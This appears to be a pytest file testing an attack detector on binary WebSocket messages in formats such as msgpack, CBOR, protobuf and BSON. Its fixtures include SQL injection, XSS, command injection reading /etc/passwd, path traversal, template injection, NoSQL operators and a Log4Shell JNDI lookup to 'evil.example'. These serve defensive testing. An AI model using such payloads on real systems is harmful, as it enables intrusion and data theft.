"""Binary messages: silent on what chance brings, not blind to text in binary formats."""

import random
import struct
import zlib
from pathlib import Path

import msgspec
import pytest

BINARY = 2
SIZES = (100, 1_000, 16_384, 262_144)
PROSE = Path(__file__).read_bytes()


def compressed(size, source):
    """Real DEFLATE data: prose with words in random order."""
    words = PROSE.split()
    packer = zlib.compressobj(9)
    data = b""
    while len(data) < size:
        data += packer.compress(b" ".join(source.choices(words, k=1_000)))
    return data[:size]


def jpeg(size, source):
    """A JFIF head and entropy-coded data: X'FF' is followed by X'00' (ITU-T T.81 F.1.2.3)."""
    head = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    return head + source.randbytes(size).replace(b"\xff", b"\xff\0")


def png(size, source):
    """Chunks of compressed samples (RFC 2083 section 3.2)."""
    samples = zlib.compress(bytes(b & 31 for b in source.randbytes(size * 2)))[:size]
    chunk = struct.pack(">I", len(samples)) + b"IDAT" + samples
    return b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", zlib.crc32(chunk[4:]))


def numbers(size, source):
    """Records of a name and doubles, as games and sensors send."""
    records = ({"name": f"p{i}", "x": source.random(), "y": -source.random()} for i in range(size))
    return msgspec.msgpack.encode([next(records) for _ in range(size // 30)])


KINDS = {
    "random": lambda size, source: source.randbytes(size),
    "compressed": compressed,
    "jpeg": jpeg,
    "png": png,
    "numbers": numbers,
}


@pytest.mark.parametrize("kind", KINDS)
def test_data_without_text_is_silent(kind, shipped, make):
    source = random.Random(7)
    for size in SIZES:
        for _ in range(2):
            message = KINDS[kind](size, source)
            for direction in (0, 1):
                hits = shipped.judge(message, direction=direction, opcode=BINARY)
                assert make.names(hits) == [], (size, [hit.evidence for hit in hits])


# What a short pattern finds, and a string that it is a part of.
CHANCES = {
    b";id;": "host=127.0.0.1;id;",
    b"|ls#": "name=report.txt|ls#",
    b"$IFS": "cat$IFS/etc/hosts",
    b"..;/ab": "/static/..;/abc/manager",
    b"{{7+7": "hello {{7+7}} there",
    b"$lt:": '{"price":{$lt:5}}',
    b"='#\"]": '["admin=\'#"]',
}


@pytest.mark.parametrize("fragment", CHANCES)
def test_a_fragment_among_random_bytes_is_chance_and_in_text_an_attack(fragment, shipped):
    source = random.Random(11)
    # Bytes of 0x80 and above: no run of text begins by chance.
    around = bytes(0x80 | byte for byte in source.randbytes(100_000))
    assert shipped.judge(around + fragment + around, opcode=BINARY) == []
    attack = CHANCES[fragment].encode()
    assert shipped.judge(around + attack + around, opcode=BINARY) != []
    assert shipped.judge(attack) != []


def test_padding_with_chances_does_not_hide_an_attack(shipped, make):
    padding = b"\x80;id;\x80" * 70_000
    hits = shipped.judge(padding + b"127.0.0.1; cat /etc/passwd", opcode=BINARY)
    assert "command-injection" in make.names(hits)
    hits = shipped.judge(padding + b"host=127.0.0.1;id;", opcode=BINARY)
    assert "command-injection" in make.names(hits)


def cbor(value):
    """RFC 8949 section 3, for lengths below 65536."""

    def head(major, number):
        if number < 24:
            return bytes([major << 5 | number])
        return bytes([major << 5 | 25]) + struct.pack(">H", number)

    match value:
        case None:
            return b"\xf6"
        case str():
            return head(3, len(value.encode())) + value.encode()
        case float():
            return b"\xfb" + struct.pack(">d", value)
        case dict():
            return head(5, len(value)) + b"".join(
                cbor(key) + cbor(part) for key, part in value.items()
            )
    raise TypeError(value)


def protobuf(value):
    """The fields by number, from 1: each a tag, then a double or a length and a string."""
    message = b""
    for number, part in enumerate(value.values(), 1):
        if isinstance(part, float):
            message += bytes([number << 3 | 1]) + struct.pack("<d", part)
        else:
            message += bytes([number << 3 | 2, len(part)]) + part.encode()
    return message


def null_separated(value):
    """Fields that end in NUL, with doubles as they lie in memory."""
    return b"".join(
        key.encode()
        + b"\0"
        + (struct.pack("<d", part) if isinstance(part, float) else str(part).encode() + b"\0")
        for key, part in value.items()
    )


ENCODINGS = {
    "msgpack": msgspec.msgpack.encode,
    "cbor": cbor,
    "protobuf": protobuf,
    "null-separated": null_separated,
}

ATTACKS = {
    "sqli-tautology": ["x' or '1'='1", "admin'-- -", "admin'--"],
    "sqli-union-select": ["1' UNION SELECT null,version()-- -"],
    "xss-script-tag": ["<script>alert(1)</script>"],
    "xss-script-code": ["javascript:alert(document.cookie)"],
    "command-injection": ["127.0.0.1; cat /etc/passwd", "127.0.0.1|id", "$(whoami)"],
    "path-traversal": ["../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "..%2f..%2fetc"],
    "template-injection": ["{{7*7}}", "{{config}}"],
    "log4shell": ["${jndi:ldap://evil.example/a}"],
}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_in_a_binary_format_is_found(name, encoding, shipped, make):
    for attack in ATTACKS[name]:
        # Among doubles: there is little text around.
        fields = {"type": "query", "x": 0.1, "y": 1e300 / 7, "value": attack}
        message = ENCODINGS[encoding](fields)
        assert name in make.names(shipped.judge(message, opcode=BINARY)), attack
        # Elsewhere what follows may be a printable byte: the end of the string cannot be told.
        if encoding in ("msgpack", "null-separated"):
            message = ENCODINGS[encoding](fields | {"z": -1 / 3})
            assert name in make.names(shipped.judge(message, opcode=BINARY)), attack


@pytest.mark.parametrize("operator", ["$ne", "$gt", "$nin", "$regex", "$where", "$exists"])
def test_a_query_operator_that_is_a_key_of_a_binary_format_is_found(operator, shipped, make):
    query = {"user": "admin", "password": {operator: None}}
    bson = b"\x02user\0\6\0\0\0admin\0\x03password\0\x0a\0\0\0\x0a" + operator.encode() + b"\0\0\0"
    for message in (msgspec.msgpack.encode(query), cbor(query)):
        assert make.names(shipped.judge(message, opcode=BINARY, tls=True)) == ["nosql-operators"]
    hits = shipped.judge(bson, opcode=BINARY, tls=True)
    assert make.names(hits) == ["nosql-binary-operators"]


def test_ordinary_fields_in_binary_formats_are_silent(shipped):
    fields = {"type": "chat", "text": "pay $5 & rest; or else - it's 5 > 3", "x": 0.25, "y": 1e9}
    for encode in ENCODINGS.values():
        for direction in (0, 1):
            assert shipped.judge(encode(fields), opcode=BINARY, direction=direction) == []
